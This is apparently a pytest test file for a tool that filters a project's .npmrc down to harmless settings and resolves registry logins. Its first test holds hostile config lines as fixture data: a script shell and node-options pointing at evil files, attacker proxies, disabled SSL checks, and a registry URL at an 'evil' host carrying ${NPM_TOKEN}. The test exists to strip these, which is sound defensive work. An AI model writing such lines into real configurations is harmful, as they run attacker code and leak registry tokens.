"""npm's settings: the person's count, of a project's only those that cannot do harm."""

from __future__ import annotations

import pytest

from autoexec_magic.builder.npm import npmrc
from autoexec_magic.errors import UsageError


def test_of_a_project_s_file_only_harmless_lines_are_kept(tmp_path):
    """No program, no proxy, no login, no variable: each of these has been an attack."""
    file = tmp_path / ".npmrc"
    file.write_text(
        "; a comment\n[section]\nregistry = https://h/npm/\n@org:registry=https://o/\nlegacy-peer-deps\n"
        "git=./evil\nscript-shell=./evil\nnode-options=--require ./evil.js\nignore-scripts=false\n"
        "proxy=http://evil/\nhttps-proxy=http://evil/\nstrict-ssl=false\ncafile=evil.pem\nprefix=/tmp\n"
        "globalconfig=./g\nuserconfig=./u\ncache=./c\n//h/:_authToken=abc\n//h/:_authToken=${NPM_TOKEN}\n"
        "@evil:registry=https://evil/${NPM_TOKEN}/\n@pw:registry=https://me:pw@h/\n"
    )
    assert npmrc.harmless(file) == (
        "registry=https://h/npm/\n@org:registry=https://o/\nlegacy-peer-deps=true\n"
    )
    assert npmrc.harmless(tmp_path / "none") == ""


def test_a_login_is_of_the_closest_place(tmp_path):
    """Host, port and path; what is only spelt alike is none."""
    file = tmp_path / "rc"
    file.write_text(
        "//h/:_authToken=one\n//h/npm/:_authToken=two\n//h:8080/:username=ann\n//h:8080/:_password=cHc=\n"
    )
    found = npmrc.of_person({"npm_config_userconfig": str(file)})
    assert found.login("https://h/npm/") == {"_authToken": "two"}
    assert found.login("https://h/other/deep") == {"_authToken": "one"}
    assert found.login("http://h:8080/") == {"username": "ann", "_password": "cHc="}
    for url in ("https://h.evil/", "https://evil/h/", "https://h:81/"):
        assert found.login(url) == {}


def test_variables_are_named_and_not_put_in(tmp_path):
    """A value stays as it is written until it is handed to npm."""
    file = tmp_path / "rc"
    file.write_text("//h/:_authToken=${MY_OWN}\nregistry=https://h/\n")
    found = npmrc.of_person(
        {"NPM_CONFIG_USERCONFIG": str(file), "MY_OWN": "s3cret", "npm_config_cafile": "c"}
    )
    assert found.variables == ("MY_OWN",)
    assert "s3cret" not in repr(found) + str(found.values)
    assert found.values["cafile"] == "c"
    assert found.registry == "https://h/"
    assert npmrc.expanded("a-${MY_OWN}", {"MY_OWN": "x"}) == "a-x"
    assert npmrc.expanded("${MY_OWN}", {}) == ""


def test_a_file_that_cannot_be_read_is_an_error(tmp_path):
    """Else what is private would go to the public registry."""
    file = tmp_path / "rc"
    file.write_bytes(b"registry=\xff\n")
    with pytest.raises(UsageError, match="cannot be read"):
        npmrc.of_person({"npm_config_userconfig": str(file)})
    assert npmrc.of_person({"HOME": str(tmp_path)}).registry == npmrc.PUBLIC
